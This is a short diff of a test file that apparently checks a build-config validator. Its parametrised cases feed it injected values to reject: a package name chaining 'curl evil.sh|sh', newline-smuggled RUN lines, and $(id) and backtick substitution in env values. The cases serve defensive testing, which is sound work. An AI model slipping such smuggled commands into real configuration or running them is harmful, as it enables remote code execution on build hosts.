@@ -92,7 +92,7 @@ def test_empty_file(tmp_path: Path) -> None:
         ("packages.apt.0", 'packages: {apt: ["git && curl evil.sh|sh"]}'),
         ("packages.conda.0", 'packages: {conda: ["numpy=1.2\\nRUN id"]}'),
         ("env.A", 'env: {A: "$(id)"}'),
-        ("env.A", 'env: {A: "x y"}'),
+        ("env.A", 'env: {A: "`id`"}'),  # a space is a value as users write them (CFLAGS: "-O2 -g"): issue 32 item 8
         ("env.bad-key", 'env: {"bad-key": "x"}'),
         ("base", 'base: "ubuntu:22.04\\nRUN curl x"'),
         ("base", 'base: "ubuntu:22.04 AS x"'),
